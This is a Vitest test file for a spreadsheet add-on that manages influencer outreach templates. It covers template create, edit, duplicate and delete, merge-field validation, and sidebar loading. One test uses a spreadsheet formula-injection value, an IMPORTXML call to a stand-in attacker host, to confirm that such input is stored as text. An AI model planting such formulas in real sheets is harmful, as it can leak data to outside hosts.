import { describe, expect, it } from "vitest";
import { localServices } from "../../../scripts/sidebarServer";
import { SIDEBAR_API } from "../../../src/addon/sidebar/api";
import type { TemplatesResult } from "../../../src/core/rpc/types";
import { programWorkbook } from "../../fixtures/programWorkbook";

const NOW = new Date("2025-03-15T02:30:00Z");
const STARTERS = [
  "First contact: gifting offer",
  "Paid partnership proposal",
  "Follow-up",
  "Brief delivery",
  "Thank-you",
  "Renewal",
];

function setUp() {
  const workbook = programWorkbook();
  const { context } = localServices({ workbook, now: () => NOW });
  const sheet = () => workbook.sheet("Outreach templates")?.read();
  const value = (
    result: { ok: true; value: TemplatesResult } | { ok: false; error: { message: string } },
  ) => {
    if (!result.ok) throw new Error(result.error.message);
    return result.value;
  };
  return { workbook, context, sheet, value };
}

describe("Outreach templates on the spreadsheet", () => {
  it("starts the sheet with the six starter templates, once", () => {
    const { context, sheet } = setUp();
    const first = SIDEBAR_API.sidebarLoad(context, {});
    SIDEBAR_API.sidebarLoad(context, undefined);
    expect(first.ok && first.value.templates.map((template) => [template.id, template.name])).toEqual(
      STARTERS.map((name, i) => [`T${i + 1}`, name]),
    );
    expect(sheet()?.values.map((row) => row[1])).toEqual(["Name", ...STARTERS]);
    expect(sheet()?.values[0]).toEqual(["Template id", "Name", "Subject", "Updated", "Body"]);
  });

  it("creates, edits in place, duplicates and deletes templates", () => {
    const { context, sheet, value } = setUp();
    const created = value(
      SIDEBAR_API.sidebarSaveTemplate(context, {
        template: {
          id: "",
          name: "Launch invite",
          subject: "Hi {{first name}}",
          body: "Join us, {{Handle}}!",
        },
      }),
    );
    expect(created.template).toEqual({
      id: "T7",
      name: "Launch invite",
      subject: "Hi {{first name}}",
      body: "Join us, {{Handle}}!",
      updatedAt: NOW.toISOString(),
    });
    const edited = value(
      SIDEBAR_API.sidebarSaveTemplate(context, {
        template: { id: "T7", name: "Launch invite (VIP)", subject: "Hi {{first name}}", body: "Join us!" },
      }),
    );
    expect(edited.templates).toHaveLength(7);
    expect(sheet()?.values[7]?.slice(0, 2)).toEqual(["T7", "Launch invite (VIP)"]);
    const copy = value(SIDEBAR_API.sidebarDuplicateTemplate(context, { id: "T7" }));
    expect(copy.template?.id).toBe("T8");
    expect(copy.template?.name).toBe("Copy of Launch invite (VIP)");
    expect(copy.template?.body).toBe("Join us!");
    const afterDelete = value(SIDEBAR_API.sidebarDeleteTemplate(context, { id: "T3" }));
    expect(afterDelete.templates.map((template) => template.id)).toEqual([
      "T1",
      "T2",
      "T4",
      "T5",
      "T6",
      "T7",
      "T8",
    ]);
    expect(sheet()?.values.map((row) => row[0])).toEqual([
      "Template id",
      "T1",
      "T2",
      "T4",
      "T5",
      "T6",
      "T7",
      "T8",
    ]);
    expect(sheet()?.values[3]?.[4]).toBe(afterDelete.templates[2]?.body);
  });

  it("stores a subject that looks like a formula or a date as text", () => {
    const { context, sheet, value } = setUp();
    value(
      SIDEBAR_API.sidebarSaveTemplate(context, {
        template: {
          id: "",
          name: "3/4",
          subject: '=IMPORTXML("http://evil.example","//a")',
          body: "+1 555 0100",
        },
      }),
    );
    const row = sheet()?.values[7];
    expect(row?.slice(1, 3)).toEqual(["3/4", '=IMPORTXML("http://evil.example","//a")']);
    expect(row?.[4]).toBe("+1 555 0100");
    expect(sheet()?.formulas[7]).toEqual(["", "", "", "", ""]);
  });

  it("names the field that is empty or too long, and a template that is gone", () => {
    const { context } = setUp();
    expect(
      SIDEBAR_API.sidebarSaveTemplate(context, {
        template: { id: "", name: " ", subject: "Hi", body: "Hello" },
      }),
    ).toEqual({ ok: false, error: { message: "Name is empty.", field: "name" } });
    expect(
      SIDEBAR_API.sidebarSaveTemplate(context, {
        template: { id: "", name: "Long", subject: "s".repeat(251), body: "Hello" },
      }),
    ).toEqual({
      ok: false,
      error: { message: "Subject is 251 characters; keep it to 250 or fewer.", field: "subject" },
    });
    expect(SIDEBAR_API.sidebarDeleteTemplate(context, { id: "T42" })).toMatchObject({
      ok: false,
      error: { field: "template" },
    });
    expect(
      SIDEBAR_API.sidebarSaveTemplate(context, { template: { id: "", name: "x", subject: 3, body: "" } }),
    ).toEqual({
      ok: false,
      error: { message: "Saving the template: Subject must be text.", field: "template.subject" },
    });
  });
});

describe("Template names and merge fields", () => {
  const template = (changes: object) => ({
    template: { id: "", name: "Launch invite", subject: "Hi {{first name}}", body: "Join us!", ...changes },
  });

  it("refuses a name another template has, whatever its case or spacing, and writes nothing", () => {
    const { context, sheet } = setUp();
    SIDEBAR_API.sidebarLoad(context, {});
    expect(SIDEBAR_API.sidebarSaveTemplate(context, template({ name: " follow-UP " }))).toEqual({
      ok: false,
      error: {
        message: 'There is already a template named "Follow-up"; give this one a name of its own.',
        field: "name",
      },
    });
    expect(SIDEBAR_API.sidebarSaveTemplate(context, template({ id: "T1", name: "Renewal" }))).toMatchObject({
      ok: false,
      error: { field: "name" },
    });
    expect(sheet()?.values).toHaveLength(7);
    // Saving a template under its own name is not a clash.
    expect(SIDEBAR_API.sidebarSaveTemplate(context, template({ id: "T3", name: "Follow-up" })).ok).toBe(true);
  });

  it("refuses a field no Roster column fills, naming it by the field that holds it, and writes nothing", () => {
    const { workbook, context, sheet } = setUp();
    const unknown = template({ subject: "Hi {{pet name}}", body: "Your {{Rate card}}, {{ promo code }}?" });
    expect(SIDEBAR_API.sidebarSaveTemplate(context, unknown)).toEqual({
      ok: false,
      error: {
        message:
          "Not a Roster column: {{pet name}}, {{Rate card}}. Add the column or fix the field; no drafts are made while it is there.",
        field: "body",
      },
    });
    // Not even the starter templates are written by a refused save.
    expect(workbook.sheet("Outreach templates")).toBeNull();
    SIDEBAR_API.sidebarLoad(context, {});
    const before = sheet();
    expect(
      SIDEBAR_API.sidebarSaveTemplate(context, template({ id: "T1", subject: "{{Pet name}}!" })),
    ).toEqual({
      ok: false,
      error: {
        message:
          "Not a Roster column: {{Pet name}}. Add the column or fix the field; no drafts are made while it is there.",
        field: "subject",
      },
    });
    expect(sheet()).toEqual(before);
    const known = template({ subject: "Hi {{first name}}", body: "{{PROMO CODE}} and {{brief link}}" });
    expect(SIDEBAR_API.sidebarSaveTemplate(context, known).ok).toBe(true);
  });
});

describe("Loading the sidebar", () => {
  it("reads today in the sheet's zone, campaigns with dates, the Roster as text and the lists", () => {
    const { context } = setUp();
    const result = SIDEBAR_API.sidebarLoad(context, {});
    if (!result.ok) throw new Error(result.error.message);
    const data = result.value;
    expect(data.today).toBe("2025-03-14");
    expect(data.campaigns).toEqual([
      { name: "Spring Glow", objective: "Sales", start: "2025-03-01", end: "2025-04-30" },
      { name: "Summer Shine", objective: "Brand awareness", start: "", end: "" },
    ]);
    expect(data.roster.rows[2]).toEqual({
      row: 4,
      values: {
        Handle: "@cai",
        Creator: "Cai Lin",
        "Contact email": "cai@example.com",
        Platform: "YouTube",
        Followers: "150,000",
        "Influencer tier": "Macro",
        Status: "Active",
        Owner: "Dana",
        "Promo code": "CAI5",
        "Favourite product": "Night Cream",
        "Last contacted": "2025-01-10",
        Notes: "VIP",
        Email: "cai@example.com",
        Tier: "Macro",
      },
    });
    expect(data.roster.rows.map((entry) => entry.row)).toEqual([2, 3, 4, 5, 6]);
    expect(data.lists.tiers).toEqual(["Nano", "Micro", "Macro"]);
    expect(data.deliverables[0]).toEqual({
      campaign: "Spring Glow",
      handle: "@ana",
      format: "TikTok video",
      dueDate: "2025-04-10",
    });
    expect(data.quota).toEqual({ left: 100, cap: 100 });
    expect(data.notes).toEqual([]);
  });

  it("still opens without a Roster, saying how to add one", () => {
    const { workbook, context } = setUp();
    workbook.renameSheet("Roster", "Old roster");
    const result = SIDEBAR_API.sidebarLoad(context, {});
    expect(result).toMatchObject({
      ok: true,
      value: {
        roster: { headers: [], rows: [] },
        notes: [
          'There is no "Roster" sheet yet: run Extensions › Influencer Desk › Set up or refresh all sheets to draft e-mails.',
        ],
      },
    });
  });

  it("takes no input", () => {
    const { context } = setUp();
    expect(SIDEBAR_API.sidebarLoad(context, { everything: true })).toEqual({
      ok: false,
      error: {
        message: 'Loading the sidebar: the request has a field the server does not know: "everything".',
      },
    });
  });
});
